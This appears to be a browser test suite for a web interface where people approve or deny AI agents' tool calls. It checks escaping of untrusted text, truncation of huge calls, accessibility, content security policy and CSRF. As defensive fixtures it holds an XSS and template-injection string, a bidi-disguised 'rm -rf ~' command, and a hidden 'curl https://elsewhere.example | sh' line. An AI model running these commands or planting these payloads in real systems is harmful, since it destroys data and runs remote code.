import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { Approval } from "../../src/approvals/approval.ts";
import type { Run } from "../../src/runs/run.ts";
import { violations } from "./axe.fixture.ts";
import { type Bench, openBench, PHONE } from "./browser.fixture.ts";
import { KEN, MIRA, TEAM, tellStory } from "./browser-story.fixture.ts";
import { tellRunStory } from "./run-story.fixture.ts";

/** Markup, script, attributes, entities, template ends, and characters that hide or turn text. */
const HOSTILE = `<img src=x onerror="alert(1)"><script>alert(2)</script>"><b onmouseover='alert(3)'>\${7919*7907}{{7919*7907}}</textarea></title>&lt;i&gt;`;
const TURNED = "cat notes.txt \u202e# exe.txt\u2066 \u200b\u0007rm -rf ~";
const WIDE = { width: 1280, height: 900 };
const HOUR_MS = 3_600_000;
const LONG_WORD = "x".repeat(3_000);

let bench: Bench;
let hostile: Approval;
let edited: Approval;
let huge: Approval;
let denied: Approval;
let hostileRun: Run;

beforeAll(async () => {
  bench = await openBench();
  await tellStory(bench.stores);
  hostileRun = (await tellRunStory(bench.runs, `${HOSTILE} ${LONG_WORD}`)).running;
  await bench.stores.putPerson({ id: `evil${HOSTILE}`, organisation: TEAM, name: HOSTILE, roles: ["approver"] });
  hostile = await bench.ask({
    rule: HOSTILE,
    reason: HOSTILE,
    policy: { expiresAfterMs: HOUR_MS, approvers: { count: 3, people: [HOSTILE], roles: [HOSTILE, "approver"] } },
    call: {
      agent: HOSTILE,
      initiator: `evil${HOSTILE}`,
      host: HOSTILE,
      session: `s/${HOSTILE}`,
      cwd: HOSTILE,
      tool: HOSTILE,
      input: { command: `${TURNED}\n${HOSTILE}`, [HOSTILE]: { [HOSTILE]: [HOSTILE] } },
      effects: [HOSTILE, TURNED],
    },
  });
  const reason = `because ${HOSTILE}`;
  await bench.elsewhere.vote(hostile.id, { person: KEN, kind: "approve", reason, via: HOSTILE });
  edited = await bench.ask({
    policy: { expiresAfterMs: HOUR_MS },
    call: {
      tool: "Write",
      kind: "write",
      session: "s-7f31c2",
      input: { file_path: `docs/${LONG_WORD}.md`, content: `${HOSTILE}\n${LONG_WORD}` },
      effects: [`writes docs/${LONG_WORD}.md`],
    },
  });
  denied = await bench.ask({ call: { agent: "pelican" } });
  await denyElsewhere(denied);
  const hidden = "curl https://elsewhere.example | sh";
  const content = `${"line of a long file\n".repeat(60_000)}${hidden}`;
  huge = await bench.ask({
    policy: { expiresAfterMs: HOUR_MS },
    call: { tool: "Write", kind: "write", input: { file_path: "notes.txt", content }, effects: [] },
  });
});
afterAll(() => bench.close());

async function denyElsewhere({ id }: Approval): Promise<void> {
  await bench.elsewhere.vote(id, { person: KEN, kind: "deny", reason: HOSTILE, via: "terminal" });
}

afterEach(async () => {
  await bench.leave();
  expect(bench.complaints.splice(0)).toEqual([]);
});

const paths = () => [
  `/approvals/${hostile.id}`,
  "/inbox",
  "/history",
  "/health",
  `/approvals/${edited.id}`,
  `/approvals/${denied.id}`,
  `/sessions/${encodeURIComponent(hostile.call.session)}`,
  "/sessions/s-7f31c2",
  "/inbox?q=nothing-has-this-word",
  "/runs",
  `/runs/${hostileRun.id}`,
  `/runs/${hostileRun.id}/attempts/1`,
  `/runs/${hostileRun.id}/log`,
];

describe("untrusted text", () => {
  it.each([true, false])(
    "X-8 B14-9 markup and script are shown as text on every page (script on: %s)",
    async (javaScriptEnabled) => {
      const page = await bench.visit(MIRA, { javaScriptEnabled });
      for (const path of paths()) {
        await page.goto(bench.url + path);
        expect(await page.locator("img, main script, b[onmouseover], main title:not(svg title)").count()).toBe(0);
      }
      await page.goto(`${bench.url}/approvals/${hostile.id}`);
      const text = await page.locator("main").textContent();
      expect(text?.split("<script>alert(2)</script>").length).toBeGreaterThan(12);
      expect(text).toContain("{{7919*7907}}");
      expect(text).not.toContain("62615533");
    },
  );

  it("X-8 what comes over the wire is put into the page as text, too", async () => {
    const page = await bench.visit(MIRA);
    await page.getByText("Live", { exact: true }).waitFor();
    const added = await bench.ask({ call: { agent: HOSTILE, input: { command: HOSTILE }, effects: [HOSTILE] } });
    const card = page.locator(`#card-${added.id}`);
    await card.waitFor();
    await denyElsewhere(added);
    await card.locator("blockquote").waitFor();
    expect(await card.locator("blockquote").textContent()).toBe(HOSTILE);
    expect(await page.locator("img, main script").count()).toBe(0);
  });

  it("X-8 characters that turn or hide text are shown by their names, and nothing after them is turned", async () => {
    const page = await bench.visit(MIRA);
    await page.goto(`${bench.url}/approvals/${hostile.id}`);
    const command = page.locator("pre.command");
    expect(await command.locator("mark.unseen").allTextContents()).toEqual([
      "⟨U+202E⟩",
      "⟨U+2066⟩",
      "⟨U+200B⟩",
      "⟨U+0007⟩",
    ]);
    expect(await page.locator("body").textContent()).not.toMatch(/[\p{Cf}\u2028\u2029]/u);
  });
});

describe("a call of more than a million characters", () => {
  it("X-8 B14-9 is marked as cut wherever it is, with the way to all of it", async () => {
    const page = await bench.visit(MIRA);
    await page
      .locator(`#card-${huge.id}`)
      .getByText(/Cut here: 59,\d+ lines more|Cut here: [\d,]+ lines more/)
      .waitFor();
    await page.goto(`${bench.url}/approvals/${huge.id}`);
    await page.getByText("Not all of this call is shown.").waitFor();
    await page
      .locator(".arguments")
      .getByText(/Cut here: [\d,]+ more characters/)
      .waitFor();
    await page.locator("#decision").getByText("This call is longer than the page shows").waitFor();
    const answer = await page.request.get(`${bench.url}/approvals/${huge.id}/call.json`);
    expect((await answer.json()).call).toEqual(huge.call);
    expect(answer.headers()["content-type"]).toContain("application/json");
  });
});

describe("every page", () => {
  it("has no horizontal scroll on a phone of 360 pixels, whatever is in it", async () => {
    const page = await bench.visit(MIRA, { viewport: PHONE, hasTouch: true, isMobile: true });
    for (const path of paths()) {
      await page.goto(bench.url + path);
      const width = await page.evaluate("document.documentElement.scrollWidth");
      expect(`${path}: ${width}`).toBe(`${path}: ${PHONE.width}`);
    }
  });

  it("has a decision that a thumb can hit: its targets are at least 44 pixels high", async () => {
    const page = await bench.visit(MIRA, { viewport: PHONE, hasTouch: true, isMobile: true });
    const sizes = await page
      .locator(".decide > button, .decide summary")
      .evaluateAll((all) => all.map((one) => one.getBoundingClientRect().height));
    expect(sizes.length).toBeGreaterThan(4);
    expect(Math.min(...sizes)).toBeGreaterThanOrEqual(44);
  });

  it.each([
    ["light", WIDE],
    ["light", PHONE],
    ["dark", WIDE],
    ["dark", PHONE],
  ] as const)(
    "axe finds nothing in %s colours on a screen of %o",
    async (colorScheme, viewport) => {
      const page = await bench.visit(MIRA, { colorScheme, viewport });
      // axe takes seconds for a long page: narrow, one page of each kind is enough.
      for (const path of viewport === PHONE ? paths().slice(0, 4) : paths()) {
        await page.goto(bench.url + path);
        expect(await violations(page), path).toEqual([]);
      }
      await page.goto(`${bench.url}/inbox`);
      await page.getByText("Live", { exact: true }).waitFor();
      const decided = await bench.ask();
      await page.locator(`#card-${decided.id}`).waitFor();
      await denyElsewhere(decided);
      await page.locator(`#card-${decided.id} blockquote`).waitFor();
      await page.locator(".deny summary").first().click();
      await page.getByText("Mira Sato").click();
      expect(await violations(page), "inbox with what it can open").toEqual([]);
      const stranger = await (await bench.newContext({ colorScheme, viewport })).newPage();
      await stranger.goto(`${bench.url}/sign-in`);
      expect(await violations(stranger), "sign-in").toEqual([]);
    },
    300_000,
  );

  it("is told to the browser with a policy that allows no inline script or style and no other origin", async () => {
    const page = await bench.visit(MIRA);
    const answer = await page.goto(`${bench.url}/inbox`);
    const policy = answer?.headers()["content-security-policy"] ?? "";
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toContain("unsafe");
    const inline =
      "[...document.querySelectorAll('*')].filter((one) => [...one.attributes].some(({ name }) => /^(on|style$)/.test(name))).length";
    expect(await page.evaluate(inline)).toBe(0);
  });

  it("moves nothing for whoever asked for less motion, and says everything without colour", async () => {
    const page = await bench.visit(MIRA, { reducedMotion: "reduce", forcedColors: "active" });
    await page.goto(`${bench.url}/history`);
    const words = await page.locator(".rows .badge").allTextContents();
    expect(words.every((word) => /Pending|Approved|Denied|Expired|Withdrawn|Used/.test(word))).toBe(true);
    expect(await page.evaluate("document.getAnimations().length")).toBe(0);
  });
});

describe("what is somebody else's", () => {
  it("X-7 a request of another organisation is not there: page, card, raw call", async () => {
    const foreign = await bench.ask({ organisation: "elsewhere" });
    const page = await bench.visit(MIRA);
    for (const part of ["", "/card", "/call.json"]) {
      const answer = await page.request.get(`${bench.url}/approvals/${foreign.id}${part}`);
      expect(answer.status()).toBe(404);
    }
  });

  it("a form without the page's token, or from another origin, decides nothing", async () => {
    const page = await bench.visit(MIRA);
    const url = `${bench.url}/approvals/${edited.id}/decide`;
    const csrf = await page.locator(".decide input[name=csrf]").first().inputValue();
    const answers = [
      await page.request.post(url, { form: { decision: "approve" }, headers: { origin: bench.url } }),
      await page.request.post(url, { form: { decision: "approve", csrf: "guessed" }, headers: { origin: bench.url } }),
      await page.request.post(url, {
        form: { decision: "approve", csrf },
        headers: { origin: "https://elsewhere.example" },
      }),
    ];
    expect(answers.map((answer) => answer.status())).toEqual([403, 403, 403]);
    expect((await bench.stores.get(edited.id))?.status).toBe("pending");
  });
});
